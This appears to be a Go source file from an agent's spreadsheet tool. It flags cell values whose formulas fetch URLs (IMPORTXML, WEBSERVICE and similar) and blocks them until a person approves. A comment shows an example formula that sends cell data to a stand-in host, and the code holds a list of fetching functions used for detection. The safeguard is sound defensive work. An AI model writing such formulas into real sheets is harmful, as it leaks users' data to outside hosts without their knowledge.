package sheetcell

import (
	"strings"

	"github.com/waymark-dev/waymark/calls"
)

// A formula is a program the spreadsheet runs as the user, and some of
// its functions reach the network: =IMPORTXML("https://x.example/?"&A1)
// in Google Sheets sends the cell's data (any cell's) wherever the URL
// says, as soon as it is committed. One cell is written without approval
// (a cell is what the person asked to change), but a cell that sends is a
// send, and sends need approval: such a formula is written by a fill,
// which shows it to the person first.

// fetchingFunctions are the spreadsheet functions that make the app
// request a URL (Google Sheets, Excel, LibreOffice) or call out of the
// sheet.
var fetchingFunctions = []string{
	"IMPORTXML", "IMPORTHTML", "IMPORTDATA", "IMPORTFEED", "IMPORTRANGE", "IMAGE",
	"WEBSERVICE", "RTD", "CALL", "REGISTER.ID",
}

// formulaStarts are the characters that make a typed value a formula in
// the common apps ('+', '-' and '@' as well as '=' in Excel and Sheets).
const formulaStarts = "=+-@"

// SendingFormula returns the function of a value that, typed into a cell,
// makes the app fetch; "" when there is none.
func SendingFormula(v string) string {
	s := strings.TrimSpace(v)
	if s == "" || !strings.ContainsRune(formulaStarts, rune(s[0])) {
		return ""
	}
	s = strings.ToUpper(strings.Join(strings.Fields(s), ""))
	for _, f := range fetchingFunctions {
		for i := strings.Index(s, f+"("); i >= 0; {
			// A whole name: "MYIMAGE(" is not IMAGE.
			if i == 0 || !isNameChar(s[i-1]) {
				return f
			}
			j := strings.Index(s[i+1:], f+"(")
			if j < 0 {
				break
			}
			i += 1 + j
		}
	}
	return ""
}

func isNameChar(c byte) bool {
	return 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || c == '_'
}

// Unapproved refuses, for a write that has no approval, a value
// whose formula fetches.
func Unapproved(cell, v string) error {
	f := SendingFormula(v)
	if f == "" {
		return nil
	}
	return calls.Errorf(calls.ErrNeedsApproval, "write it with "+calls.Cmd("sheet fill")+", which shows it to the person and asks for approval",
		"the value for %s is a formula that makes the app fetch a URL (%s): a send, which needs approval; nothing was written", cell, f)
}
